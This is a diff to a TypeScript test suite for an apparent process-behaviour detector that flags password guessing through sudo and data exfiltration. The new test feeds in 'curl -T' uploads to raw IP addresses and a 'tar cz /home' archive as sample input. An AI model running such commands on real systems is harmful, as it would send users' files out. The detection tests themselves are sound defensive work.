@@ -11,7 +11,7 @@ function run(commands: readonly string[], { uid = 0, every = 1, starter = 'php' 
   const lineage = new Lineage()
   const found = new Commands(lineage)
   const above: Calls = { pid: STARTER, name: starter, startMs: 1_000, counts: { clone: 1 } }
-  const all = { proofs: [] as string[], asked: [] as string[] }
+  const all = { proofs: [] as string[], because: [] as string[], asked: [] as string[] }
   for (const [i, command] of commands.entries()) {
     const second = 1_000 + i * every
     const child: Calls = {
@@ -24,6 +24,7 @@ function run(commands: readonly string[], { uid = 0, every = 1, starter = 'php' 
     for (const { process, finding } of proofs) {
       expect(process.pid).toBe(STARTER)
       all.proofs.push(`${finding.says} ${finding.question}`)
+      all.because.push(finding.because)
     }
     all.asked = discoveries.at(-1)?.asked.slice() ?? all.asked
   }
@@ -105,6 +106,14 @@ test('who is not root gives sudo passwords; ansible asks for something else each
   expect(run(calls, { uid: 1000 }).proofs).toEqual(['proves password-guessing'])
   const tasks = times(6, (i) => `sudo -H -S -p [via ansible, key=${i}] -u root sh -c ${i}`)
   expect(run(tasks, { uid: 1000 }).proofs).toEqual([])
+})
+
+test('an archive was sent where the latest file went', () => {
+  const to = (address: string) => `curl -T x http://${address}/u`
+  const commands = [to('203.0.113.9'), to('203.0.113.8'), to('203.0.113.9'), 'tar cz /home']
+  expect(run(commands).because).toEqual([
+    'makes an archive and sends a file to 203.0.113.9, an address without a name',
+  ])
 })
 
 test('a shell that connects by itself beside an archive sends it', () => {
